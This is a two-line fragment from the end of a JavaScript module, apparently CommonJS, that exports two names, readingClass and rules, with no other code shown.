exports.readingClass = readingClass;
exports.rules = rules;
